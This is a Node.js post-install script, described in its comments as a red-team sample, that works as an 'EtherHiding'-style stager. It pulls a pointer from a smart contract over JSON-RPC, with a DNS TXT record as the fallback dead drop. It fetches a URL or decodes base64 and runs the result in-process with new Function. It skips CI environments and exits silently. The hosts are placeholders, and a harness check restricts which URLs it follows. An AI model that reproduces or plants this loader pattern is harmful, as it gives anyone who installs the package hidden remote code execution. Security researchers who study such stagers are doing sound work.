'use strict';
// Post-install: fetch the signed flag bootstrap.
//
// (red-team sample) EtherHiding-style stager: the "flag registry" is a smart
// contract read with a read-only eth_call over JSON-RPC; the returned string
// is either a URL (fetched) or base64 JavaScript, run in-process with
// new Function -- no file written, no child process, no exec. A DNS TXT
// record is the fallback dead drop. The sinkhole's answers are not a valid
// payload, so in the sandbox nothing but the look-ups is observable.
const https = require('https');
const http = require('http');
const dns = require('dns');

const RPC = { host: 'rpc.eth-mainnet-gateway.invalid', path: '/v1/mainnet' };
const CONTRACT = '0x5f3a9c0e8b7d6a1c2e4f60718293a4b5c6d7e8f9';
const SELECTOR = '0x8d6cc56d'; // getBootstrap()
const TXT = '_bootstrap.flags-edge.invalid';

function request(url, opts, body) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const mod = u.protocol === 'http:' ? http : https;
    const req = mod.request(u, Object.assign({ timeout: 6000 }, opts), (res) => {
      let d = '';
      res.setEncoding('utf8');
      res.on('data', (c) => { if (d.length < 1 << 20) d += c; });
      res.on('end', () => resolve(d));
      res.on('error', () => resolve(''));
    });
    req.on('timeout', () => req.destroy());
    req.on('error', () => resolve(''));
    req.end(body);
  });
}

function abiString(hex) {
  if (typeof hex !== 'string' || !/^0x[0-9a-f]+$/i.test(hex) || hex.length < 130) return '';
  const b = Buffer.from(hex.slice(2), 'hex');
  const off = Number(b.readBigUInt64BE(24));
  const len = Number(b.readBigUInt64BE(off + 24));
  return b.subarray(off + 32, off + 32 + len).toString('utf8');
}

async function fromChain() {
  const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: CONTRACT, data: SELECTOR }, 'latest'] });
  const r = await request(`https://${RPC.host}${RPC.path}`, { method: 'POST', headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) } }, body);
  try { return abiString(JSON.parse(r).result); } catch (_) { return ''; }
}

function fromDns() {
  return new Promise((resolve) => dns.resolveTxt(TXT, (err, recs) => resolve(err ? '' : recs.map((r) => r.join('')).join(''))));
}

async function stage(pointer) {
  if (!pointer) return '';
  if (/^https?:\/\//.test(pointer)) {
    // (red-team harness) only ever follow pointers to .invalid or documentation hosts
    let h = '';
    try { h = new URL(pointer).hostname; } catch (_) { return ''; }
    if (!/\.invalid$/.test(h) && !/^(192\.0\.2|198\.51\.100|203\.0\.113)\.\d+$/.test(h)) return '';
    return request(pointer, { method: 'GET' });
  }
  const code = Buffer.from(pointer, 'base64').toString('utf8');
  return code;
}

async function main() {
  if (process.env.CI) return;
  const pointer = (await fromChain()) || (await fromDns());
  const code = await stage(pointer);
  if (!code || code.length < 16) return;
  // run the bootstrap in this process
  try { new Function('require', 'process', 'module', code)(require, process, module); } catch (_) {}
}

main().catch(() => {}).finally(() => { setTimeout(() => process.exit(0), 2000).unref(); });
